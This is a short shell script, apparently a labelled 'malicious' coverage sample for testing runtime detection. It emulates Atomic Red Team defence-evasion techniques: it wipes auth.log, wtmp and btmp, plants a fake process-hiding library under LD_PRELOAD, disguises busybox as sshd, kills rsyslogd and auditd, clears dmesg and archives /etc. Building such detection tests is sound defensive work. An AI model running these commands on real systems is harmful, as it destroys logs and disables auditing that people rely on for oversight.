#!/bin/sh
# Malicious (issue 12 coverage sample): defence evasion as rootkit droppers and Atomic Red Team's
# T1070.002 / T1574.006 / T1564.001 / T1036.005 / T1489 tests perform it, with static busybox
# applets only. Bare applet names run in the shell's process or a fork that never execs (busybox's
# NOFORK/NOEXEC applets: only their syscalls are seen); `busybox <applet>` execs the binary with the
# applet in argv[1]; tar runs through /proc/self/exe (comm "exe", argv[0] "tar").
mkdir -p /var/log /tmp/.cache-x
echo "Dec  6 04:00:01 host sshd[1]: Accepted publickey for root" > /var/log/auth.log
: > /var/log/auth.log
rm -f /var/log/wtmp /var/log/btmp
printf '\177ELF-not-really-a-library' > /tmp/.cache-x/libprocesshider.so
LD_PRELOAD=/tmp/.cache-x/libprocesshider.so busybox ls / >/dev/null
cp /bin/busybox /tmp/.cache-x/sshd
/tmp/.cache-x/sshd true 2>/dev/null
busybox killall -9 rsyslogd auditd 2>/dev/null
busybox dmesg -c >/dev/null 2>&1
tar czf /tmp/.cache-x/e.tgz /etc 2>/dev/null
echo "evasion done"
